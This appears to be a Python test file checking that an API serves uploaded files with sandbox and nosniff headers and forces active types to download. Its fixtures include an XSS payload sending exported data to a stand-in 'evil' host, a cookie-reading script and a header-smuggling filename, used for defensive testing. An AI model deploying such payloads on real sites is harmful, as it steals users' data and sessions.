"""Original files served back (GET /v1/artifacts/{id}/raw) never run as pages of this origin.

An uploaded .html or .svg served inline on the API's origin would run its scripts with the person's
session.  Every original comes with ``Content-Security-Policy: sandbox`` and ``nosniff``, and only
types that display inertly (PDF, raster images, audio, video, plain text) are served inline; the
rest are downloads.
"""

from __future__ import annotations

from collections.abc import Iterator

import pytest
from fastapi.testclient import TestClient
from pydantic import SecretStr

from app.assembly import build_runtime
from app.http import create_app
from secondbrain.settings import Settings

SCRIPT = b"<script>fetch('/v1/export').then(r => r.blob()).then(b => navigator.sendBeacon('https://evil', b))</script>"


@pytest.fixture(scope="module")
def client(dsn: str, tmp_path_factory: pytest.TempPathFactory) -> Iterator[TestClient]:
    settings = Settings(data_dir=tmp_path_factory.mktemp("raw"), postgres_dsn=SecretStr(dsn),  # type: ignore[call-arg]
                        kafka_bootstrap="127.0.0.1:9", auth="off")  # keys are tested in tests/app/test_auth.py
    rt = build_runtime(settings, vectors=True, models=True)
    with TestClient(create_app(rt, gateway=True, query=True), base_url="http://127.0.0.1:8000") as c:
        yield c
    rt.close()


def upload(client: TestClient, name: str, data: bytes, content_type: str) -> str:
    r = client.post("/v1/artifacts", files={"file": (name, data, content_type)})
    assert r.status_code == 202, r.text
    return str(r.json()["artifact_id"])


@pytest.mark.parametrize(("name", "content_type", "data"), [
    ("page.html", "text/html; charset=utf-8", b"<html><body>hi" + SCRIPT + b"</body></html>"),
    ("logo.svg", "image/svg+xml", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
    ("page.xhtml", "application/xhtml+xml", b'<html xmlns="http://www.w3.org/1999/xhtml">' + SCRIPT + b"</html>"),
    ("feed.xml", "text/xml", b"<?xml version='1.0'?><a>" + SCRIPT + b"</a>"),
    ("blob.bin", "application/octet-stream", b"<html>" + SCRIPT),
    ("app.js", "application/javascript", b"alert(document.cookie)"),
])
def test_active_types_are_downloads_in_a_sandbox(client: TestClient, name: str, content_type: str,
                                                 data: bytes) -> None:
    art = upload(client, name, data, content_type)
    r = client.get(f"/v1/artifacts/{art}/raw")
    assert r.status_code == 200 and r.content == data  # byte for byte
    assert r.headers["content-security-policy"] == "sandbox"
    assert r.headers["x-content-type-options"] == "nosniff"
    assert r.headers["content-disposition"].startswith("attachment;")
    assert f'filename="{name}"' in r.headers["content-disposition"]


@pytest.mark.parametrize(("name", "content_type", "data"), [
    ("scan.pdf", "application/pdf", b"%PDF-1.4\n%%EOF\n"),
    ("photo.png", "image/png", b"\x89PNG\r\n\x1a\n" + b"\0" * 16),
    ("memo.m4a", "audio/mp4", b"\0\0\0\x18ftypM4A " + b"\0" * 16),
    ("notes.txt", "text/plain", b"plain words <script>alert(1)</script>"),
])
def test_passive_types_display_inline_in_a_sandbox(client: TestClient, name: str, content_type: str,
                                                   data: bytes) -> None:
    art = upload(client, name, data, content_type)
    r = client.get(f"/v1/artifacts/{art}/raw")
    assert r.status_code == 200 and r.content == data
    assert r.headers["content-security-policy"] == "sandbox"
    assert r.headers["x-content-type-options"] == "nosniff"
    assert r.headers["content-disposition"].startswith("inline")
    assert r.headers["content-type"].startswith(content_type)


def test_a_file_name_cannot_break_the_header(client: TestClient) -> None:
    r = client.post("/v1/artifacts", content=b"<p>x</p>", headers={"X-Filename": 'a "b"; filename=c.txt.html',
                                                                     "Content-Type": "text/html"})
    disposition = client.get(f"/v1/artifacts/{r.json()['artifact_id']}/raw").headers["content-disposition"]
    assert disposition == ("attachment; filename=\"a _b_; filename=c.txt.html\"; "
                           "filename*=UTF-8''a%20%22b%22%3B%20filename%3Dc.txt.html")
    art = upload(client, "été.svg", b"<svg/>", "image/svg+xml")
    disposition = client.get(f"/v1/artifacts/{art}/raw").headers["content-disposition"]
    assert disposition == "attachment; filename=\"_t_.svg\"; filename*=UTF-8''%C3%A9t%C3%A9.svg"
